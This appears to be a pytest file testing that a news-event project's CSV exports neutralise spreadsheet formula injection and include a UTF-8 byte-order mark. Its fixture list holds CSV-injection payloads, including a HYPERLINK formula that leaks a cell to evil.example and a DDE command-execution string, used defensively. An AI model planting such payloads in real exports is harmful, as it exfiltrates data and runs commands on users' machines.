"""CSV exports a spreadsheet can open safely: no cell starts a formula (OWASP's rule: a cell that
begins with =, +, -, @, tab or carriage return is prefixed with a quote), in the CLI's export and the
API's download alike; and a UTF-8 byte-order mark so that Excel reads Arabic as Arabic.

Every Arabic sentence here was written for these tests.
"""
from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from rasd.cli import app
from rasd.ingest.runner import ingest_items
from rasd.model import Article
from rasd.serve.app import create_app
from rasd.store.db import Store

CLASH = ("اندلعت اشتباكات عنيفة بين قوات الجيش ومسلحين في مدينة درنة صباح الخميس، وقال مصدر عسكري إن "
         "ثلاثة جنود قتلوا وأصيب خمسة آخرون.")
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A2,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+1", "-2+3"),
    ("\t=1+1", "\r=1+1"),
    ("-cmd", "=cmd"),
]
NUMERIC = {"latitude", "longitude", "fatalities", "evidence_start", "evidence_end", "n_sources", "time_precision",
           "geo_precision", "year"}


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    s = Store(f"sqlite:///{tmp_path_factory.mktemp('x') / 'x.sqlite'}")
    arts = [Article(id=f"h{i}", text=f"{CLASH} {'و' * (i + 1)}", outlet=outlet, url=url, published="2015-07-2" + str(i),
                    source_path=f"h{i}") for i, (outlet, url) in enumerate(HOSTILE)]
    summary = ingest_items(arts, s)
    assert summary.stored == len(HOSTILE) and summary.events_new + summary.events_merged > 0
    return s


def check_cells(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:20]
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows
    for row in rows:
        for name, value in row.items():
            if name in NUMERIC and value:
                float(value)          # numbers stay numbers (a negative longitude is not a formula)
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    return rows


def test_cli_csv_export_is_neutralised_and_marked_utf8(store, tmp_path):
    out = tmp_path / "e.csv"
    r = CliRunner().invoke(app, ["export", "--format", "csv", "-o", str(out), "--db", store.url])
    assert r.exit_code == 0, r.output
    rows = check_cells(out.read_bytes())
    sources = " ".join(row["source"] + " " + row["source_url"] for row in rows)
    assert '=HYPERLINK("http://evil.example' in sources and "'" in sources   # kept, as text
    assert any("درنة" in row["location_ar"] or "درنه" in row["location_ar"] for row in rows)


def test_api_csv_download_is_neutralised_and_marked_utf8(store):
    with TestClient(create_app(store, token="t")) as c:
        r = c.get("/api/export.csv")
    assert r.status_code == 200
    check_cells(r.content)


def test_cell_rule():
    from rasd.export import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("@x") == "'@x" and spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe("\rx") == "'\rx"
    assert spreadsheet_safe("-x") == "'-x" and spreadsheet_safe("+x") == "'+x"
    assert spreadsheet_safe("درنة") == "درنة" and spreadsheet_safe("") == ""
    assert spreadsheet_safe(-12.5) == -12.5 and spreadsheet_safe(3) == 3
